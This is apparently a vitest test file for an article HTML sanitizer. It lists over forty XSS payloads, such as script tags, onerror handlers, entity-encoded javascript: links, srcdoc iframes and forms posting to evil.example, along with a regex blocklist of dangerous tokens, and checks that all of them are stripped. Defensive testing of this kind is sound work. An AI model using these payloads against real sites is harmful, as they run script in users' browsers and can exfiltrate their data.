import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { articleText, excerptOf, sanitizeArticleBody } from './sanitize-article.ts';

// A hostile corpus against the article sanitizer: each body is sanitized, then parsed back the way a browser's
// tokenizer would read it, and every element, attribute and address checked against the allow-list. A vector
// passes when nothing in the output could run, load from elsewhere, submit or restyle the page.

const ALLOWED: Record<string, string[]> = {
  h2: [], h3: [], h4: [], p: [], br: [], hr: [], div: [],
  strong: [], b: [], em: [], i: [], u: [], s: [], del: [], ins: [], sub: [], sup: [], mark: [], small: [], abbr: ['title'],
  code: ['class'], pre: ['class'], kbd: [], samp: [], blockquote: [], q: [], cite: [],
  ul: [], ol: ['start', 'reversed'], li: [], dl: [], dt: [], dd: [],
  a: ['href', 'title'], img: ['src', 'alt', 'title', 'width', 'height'], figure: [], figcaption: [],
  table: [], caption: [], thead: [], tbody: [], tfoot: [], tr: [], th: ['colspan', 'rowspan', 'scope'], td: ['colspan', 'rowspan'],
  details: [], summary: [],
};

const HOSTILE: [name: string, html: string][] = [
  ['script element', '<p>a</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['upper-case script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script split by a null', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['event handler', '<p onclick="alert(1)">x</p>'],
  ['event handler on an image', '<img src="/x.png" onerror="alert(1)">'],
  ['event handler without quotes', '<b onmouseover=alert(1)>x</b>'],
  ['event handler after a slash', '<img/src="/x.png"/onerror=alert(1)>'],
  ['javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript link, mixed case and spaces', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
  ['javascript link with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data image', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
  ['protocol-relative image', '<img src="//evil.example/track.gif">'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['srcdoc iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['form with a button', '<form action="https://evil.example"><input name="card"><button>Pay</button></form>'],
  ['form action on a button', '<button formaction="javascript:alert(1)">x</button>'],
  ['style element', '<style>body{display:none}</style><p>x</p>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  ['math with a link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base element', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['comment breaking out', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['attribute breaking quotes', '<a href="https://ok.example/" title="x" onfocus="alert(1)" autofocus>x</a>'],
  ['class and id for clobbering', '<p id="location" class="admin-only">x</p><img name="cookie" src="/x.png">'],
  ['target blank', '<a href="https://ok.example/" target="_blank">x</a>'],
  ['textarea smuggling', '<textarea><script>alert(1)</script></textarea>'],
  ['nested unknown tags', '<custom-tag onclick="alert(1)"><p>kept text</p></custom-tag>'],
  ['xmp', '<xmp><script>alert(1)</script></xmp>'],
  ['dialog and popover', '<dialog open onclose="alert(1)">x</dialog><div popover onbeforetoggle="alert(1)">y</div>'],
  ['code class beyond a language', '<pre class="language-js x-evil"><code class="hljs language-ts">x</code></pre>'],
];

/** What the output holds, as a tokenizer reads it: elements with their attributes. */
function elementsOf(html: string): { name: string; attributes: Record<string, string> }[] {
  const found: { name: string; attributes: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => found.push({ name, attributes }) }, { decodeEntities: true, lowerCaseTags: true });
  parser.write(html);
  parser.end();
  return found;
}

const SAFE_HREF = /^(https?:|mailto:|tel:|\/(?!\/)|#|[a-z0-9._-]+(\/|$))/i;
const SAFE_SRC = /^(https?:\/\/|\/(?!\/)|[a-z0-9._-]+(\/|$))/i;

describe('the article sanitizer against hostile markup', () => {
  it('has a corpus of at least 30 vectors', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
  });

  it.each(HOSTILE)('%s: leaves only allowed elements, attributes and addresses', (_name, html) => {
    const clean = sanitizeArticleBody(html);
    for (const element of elementsOf(clean)) {
      expect(Object.keys(ALLOWED), `element <${element.name}> in ${clean}`).toContain(element.name);
      for (const [attribute, value] of Object.entries(element.attributes)) {
        expect(ALLOWED[element.name], `attribute ${attribute} of <${element.name}> in ${clean}`).toContain(attribute);
        if (attribute === 'href') expect(value.replace(/\s/g, ''), clean).toMatch(SAFE_HREF);
        if (attribute === 'src') expect(value.replace(/\s/g, ''), clean).toMatch(SAFE_SRC);
        if (attribute === 'class') expect(value, clean).toMatch(/^language-[a-z0-9+#-]+$/);
      }
    }
    expect(clean.toLowerCase()).not.toMatch(/<script|javascript:|vbscript:|onerror|onload|onclick|<iframe|<form|<style|<svg/);
    // Sanitizing again changes nothing: the output is read the same way it was written.
    expect(sanitizeArticleBody(clean)).toBe(clean);
  });

  it('keeps what an article is made of', () => {
    const html =
      '<h2>Title</h2><p>Text with <a href="https://docs.example.com/a?b=1&amp;c=2" title="Docs">a link</a>, <a href="mailto:help@example.com">mail</a>, ' +
      '<a href="#steps">an anchor</a> and <code>code</code>.</p><ul><li>One</li></ul><ol start="3"><li>Three</li></ol>' +
      '<img src="https://cdn.example.com/a.png" alt="A screenshot" width="600" height="400" /><img src="/help/acme/images/7-b.png" alt="B" />' +
      '<table><thead><tr><th scope="col">Plan</th></tr></thead><tbody><tr><td colspan="2">Team</td></tr></tbody></table>' +
      '<pre class="language-ts"><code>const a = 1 &lt; 2;</code></pre><blockquote>Quote</blockquote><details><summary>More</summary>Hidden</details>';
    expect(sanitizeArticleBody(html)).toBe(html);
  });

  it('turns an h1 into an h2 (the page title is the h1), and h5, h6 into h4', () => {
    expect(sanitizeArticleBody('<h1>A</h1><h5>B</h5><h6>C</h6>')).toBe('<h2>A</h2><h4>B</h4><h4>C</h4>');
  });

  it('keeps the text of unknown elements, and drops the content of code-like ones', () => {
    expect(sanitizeArticleBody('<section><span>Kept</span></section><script>gone()</script><style>.gone{}</style>')).toBe('Kept');
  });

  it('reads a deeply nested body without overflowing', () => {
    const deep = `${'<div>'.repeat(20_000)}deep text${'</div>'.repeat(20_000)}`;
    const clean = sanitizeArticleBody(deep);
    expect(articleText(clean)).toContain('deep text');
  });
});

describe('text and excerpt', () => {
  it('reads headings, lists and tables as words, without links or images', () => {
    const text = articleText('<h2>Reset</h2><p>Open <a href="https://x.example">Settings</a>.</p><img src="/a.png" alt="pic"><ul><li>One</li><li>Two</li></ul>');
    expect(text).toBe('Reset\n\nOpen Settings.\n\n * One\n * Two');
  });

  it('cuts a long text at a word, with an ellipsis', () => {
    const excerpt = excerptOf(`${'word '.repeat(60)}end`);
    expect(excerpt.length).toBeLessThanOrEqual(241);
    expect(excerpt).toMatch(/word…$/);
    expect(excerptOf('  Short   text ')).toBe('Short text');
  });
});
